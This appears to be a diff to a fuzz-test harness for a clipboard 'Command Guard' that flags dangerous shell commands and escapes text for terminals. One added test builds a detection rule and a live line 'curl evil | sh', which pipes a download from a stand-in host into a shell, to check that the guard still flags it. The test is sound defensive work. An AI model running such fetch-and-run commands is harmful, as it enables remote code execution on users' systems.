@@ -1,11 +1,16 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 // Command Guard on arbitrary text, with the shipped rules or with a rules file made of the input.
-// Checks: every analysis finishes in bounded time (the per-rule work limit holds), a shortened
-// matched text is cut on a user-perceived character boundary, and the neutralized copy of any text is
-// inert (each line a shell comment) and never flagged again.
+// Checks: every analysis finishes in bounded time (the per-rule work limit holds) and examines exactly
+// the text examinedCommand gives, a shortened matched text is cut on a user-perceived character
+// boundary, the neutralized copy of any text is inert (each line a shell comment) and never flagged
+// again while a live line after it always is, and what is escaped for a terminal holds no control,
+// bidirectional or line-separating character.
 #include "core/clipboard/CommandGuard.h"
 #include "core/foundation/Text.h"
 #include "fuzz/FuzzSupport.h"
+
+#include <unicode/uchar.h>
+#include <unicode/utf8.h>
 
 #include <algorithm>
 #include <array>
@@ -58,6 +63,32 @@ void checkInert(std::string_view input) {
         if (lineEnds && i + 1 < body.size()) FUZZ_CHECK(body[i + 1] == '#');
     }
     FUZZ_CHECK(!shippedGuard().analyze(neutralized, CommandRiskSeverity::info).has_value());
+
+    // Behind the header, a line that is not one of its comments is examined like any other text,
+    // whatever the lines before it end with (a backslash, a backquote, a lone carriage return).
+    static const CommandGuard liveLineGuard = CommandGuard::fromRulesData(
+        R"({"currentVersion":"1","rules":[{"id":"live","platform":"sh","severity":"danger",)"
+        R"("pattern":"curl evil \\| sh","summary":"s","explanation":"e"}]})");
+    FUZZ_CHECK(liveLineGuard.rules().size() == 1);
+    const std::string live = neutralized + "\ncurl evil | sh";
+    if (CommandGuard::examinedCommand(live)) FUZZ_CHECK(liveLineGuard.analyze(live).has_value());
+}
+
+// Checked against ICU's own character properties rather than the list the function keeps.
+void checkEscaped(std::string_view input) {
+    const std::string shown = text::escapedForTerminal(input);
+    FUZZ_CHECK(text::isValidUtf8(shown));
+    const auto* bytes = reinterpret_cast<const std::uint8_t*>(shown.data());
+    const auto length = static_cast<std::int32_t>(shown.size());
+    for (std::int32_t i = 0; i < length;) {
+        UChar32 c = 0;
+        U8_NEXT(bytes, i, length, c);
+        const auto type = u_charType(c);
+        FUZZ_CHECK(type != U_CONTROL_CHAR && type != U_LINE_SEPARATOR && type != U_PARAGRAPH_SEPARATOR);
+        FUZZ_CHECK(!u_hasBinaryProperty(c, UCHAR_BIDI_CONTROL));
+    }
+    const bool printableAscii = std::all_of(input.begin(), input.end(), [](char c) { return c >= 0x20 && c < 0x7F; });
+    if (printableAscii) FUZZ_CHECK(shown == input);
 }
 
 // The shown fragment is the trimmed match, or its first 157 user-perceived characters and "..."
@@ -92,7 +123,10 @@ void checkAnalysis(const CommandGuard& guard, std::string_view text, CommandRisk
     const double start = processorSeconds();
     const auto result = guard.analyze(text, threshold);
     FUZZ_CHECK(processorSeconds() - start < kAnalysisBoundSeconds);
+    const auto examined = CommandGuard::examinedCommand(text);
+    FUZZ_CHECK(examined || !result);
     if (!result) return;
+    FUZZ_CHECK(result->command == examined->text());
     FUZZ_CHECK(!result->findings.empty());
     FUZZ_CHECK(result->command.size() <= CommandGuard::maximumCommandBytes);
     FUZZ_CHECK(text::isValidUtf8(result->command));
@@ -114,6 +148,7 @@ extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size
     if (mode < 3) {
         checkAnalysis(shippedGuard(), rest, static_cast<CommandRiskSeverity>(mode));
         checkInert(rest);
+        checkEscaped(rest);
         return 0;
     }
     const CommandGuard guard = CommandGuard::fromRulesData(rest);
